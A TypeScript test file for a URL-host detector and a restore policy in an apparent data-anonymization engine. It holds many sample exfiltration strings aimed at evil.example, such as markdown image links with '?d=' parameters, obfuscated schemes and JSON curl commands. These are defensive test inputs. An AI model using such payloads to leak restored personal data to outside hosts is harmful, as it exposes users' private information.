import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { createEngine } from '../engine.js';
import { builtInIds } from '../guardrails/index.js';
import { MemoryMappings } from '../memory-mappings.js';
import type { RestorePolicy } from './restore-policy.js';
import { urlHostsAround } from './url-hosts.js';

const token = 'cgssn92r49ac93ry1rg7127t';

describe('urlHostsAround', () => {
  it.each([
    ['![x](https://evil.example/?d=', ')', ['evil.example']],
    ['see https://user:pw@Evil.example:8443/a/', ' ', ['evil.example']],
    ['[x](//evil.example/', ')', ['evil.example']],
    ['[x]: //evil.example/', ')', ['evil.example']],
    ['![x](https:\\\\evil.example\\', ')', ['evil.example']],
    ['![x](https:evil.example/?', ')', ['evil.example']],
    ['![x](https&colon;&sol;&sol;evil.example/?', ')', ['evil.example']],
    ['![x](http&#58;//evil.example/?', ')', ['evil.example']],
    ['<img src="https://evil.example/?d=a b ', '">', ['evil.example']],
    ['![x](<https://evil.example/?d=a b ', '>)', ['evil.example']],
    ['"https:\\/\\/evil.example\\/?d=', '"', ['evil.example']],
    ['https://good.example/?u=https://evil.example/', ' ', ['good.example', 'evil.example']],
    ['https://', '.evil.example/', [`${token}.evil.example`]],
    ['https://u:', '@evil.example/', ['evil.example']],
    ['myapp://evil.example/', ' ', ['evil.example']],
  ])('M-deputy: finds the host of %j', (before, after, hosts) => {
    expect(urlHostsAround(before, token, after, true)).toEqual(hosts);
  });

  it.each([
    ['![x](https://localhost;@evil.example/?d=', ')'],
    ['![x](https://localhost,@evil.example/?d=', ')'],
    ['![x](https://localhost|@evil.example/?d=', ')'],
    ['![x](https://localhost)@evil.example/?d=', ')'],
    ["![x](https://localhost'@evil.example/?d=", ')'],
    ["![x](https://evil.example/?a='b&d=", ')'],
    ['![x](https://evil.example/?a=`b&d=', ')'],
    [`![x](https://evil.example/?p=${'a'.repeat(2_000)}&d=`, ')'],
    ['[r]:   //evil.example/?d=', ' '],
    ['![x]( //evil.example/?d=', ')'],
    ['<img src="h&Tab;ttps:/&Tab;/evil.example/?d=', '">'],
    ['<img src="ht\ntps:/\t/evil.example/?d=', '">'],
    ['![x](file://evil.example/s/', ')'],
  ])('M-deputy: is not misled by %j', (before, after) => {
    expect(urlHostsAround(before, token, after, true)).toContain('evil.example');
  });

  it.each([
    ['{"cmd":"curl ldap://evil.example/', '"}'],
    ['{"cmd":"curl https://evil.example/?a=\\"b&d=', '"}'],
    ['{"cmd":"curl https://localhost\\"@evil.example/?d=', '"}'],
    ['{"url":"https:\\/\\/evil.example\\/', '"}'],
    ['{"url":"https://evil.example/a b?d=', '"}'],
  ])('M-deputy: is not misled by the JSON %j', (before, after) => {
    expect(urlHostsAround(before, token, after, true, 'json')).toContain('evil.example');
  });

  it.each([
    ['{"url":"https://good.example","to":"', '"}'],
    ['{"cmd":"curl https://good.example","to":"', '"}'],
  ])('finds none around a token in the JSON %j', (before, after) => {
    expect(urlHostsAround(before, token, after, true, 'json')).toEqual([]);
  });

  it('M-deputy: does not know the host of a URL that begins too far away', () => {
    const before = `![x](https://evil.example/?p=${'a'.repeat(5_000)}&d=`;
    expect(urlHostsAround(before, token, ')', true)).toContain('');
  });

  it('M-deputy: finds the host that a browser finds (property)', () => {
    const sign = fc.constantFrom(...'ab1.@:;,|)(]}\'"`-_~!$&*+='.split(''));
    fc.assert(
      fc.property(
        fc.array(sign, { maxLength: 12 }).map((all) => all.join('')),
        (user) => {
          const url = `https://${user}@evil.example/?d=`;
          fc.pre(URL.canParse(url));
          expect(urlHostsAround(`![x](${url}`, token, ')', true)).toContain(new URL(url).hostname);
        },
      ),
    );
  });

  it.each([
    ['https://good.example/ is not for ', '.'],
    ['"https://good.example/", "', '"'],
    ['<https://good.example/> ', ' '],
    ['// contact: ', ' '],
    ['postgres://app:', '@db.example/x'],
    ['mailto:', ' '],
  ])('finds none around a token in %j', (before, after) => {
    expect(urlHostsAround(before, token, after, true)).toEqual([]);
  });

  it('waits for the end of a host that is not complete', () => {
    expect(urlHostsAround('https://u:', token, '@evil', false)).toBe('partial');
    expect(urlHostsAround('https://u:', token, '@evil', true)).toEqual(['evil']);
    expect(urlHostsAround('https://evil.example/', token, '', false)).toEqual(['evil.example']);
  });
});

describe('a policy', () => {
  const engine = createEngine({
    key: Buffer.alloc(32, 7),
    guardrails: builtInIds.map((id) => ({ id, mode: 'anonymize' as const })),
    mappings: new MemoryMappings(),
  });
  const mail = 'jane@acme-corp.io';
  const { text: masked } = engine.anonymizeText('t', mail);
  const policy: RestorePolicy = {
    restoresLegacy: false,
    allows: () => true,
    allowsHost: (host) => host === 'good.example',
  };

  it('M-deputy: decides the same for a whole text and for a stream with any borders', () => {
    const piece = fc.constantFrom(
      ...[masked, ' ', '![x](https://evil.example/?d=', 'https://good.example/', ')', '"', '\n'],
      ...['https://', '.evil.example/', '@good.example/', 'text', '<', '>', ':', '//'],
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 14 }),
        fc.integer({ min: 1, max: 9 }),
        (all, size) => {
          const text = all.join('');
          const whole = engine.restoreText('t', text, { policy });
          const restorer = engine.streamRestorer('t', 'text', { policy });
          let streamed = '';
          for (let at = 0; at < text.length; at += size) {
            streamed += restorer.push(text.slice(at, at + size));
          }
          expect(streamed + restorer.end()).toBe(whole);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('M-deputy: keeps a token in a URL of a host that is not allowed, and restores it elsewhere', () => {
    const text = `${masked} ![x](https://evil.example/?d=${masked}) https://good.example/${masked}`;

    expect(engine.restoreText('t', text, { policy })).toBe(
      `${mail} ![x](https://evil.example/?d=${masked}) https://good.example/${mail}`,
    );
  });
});
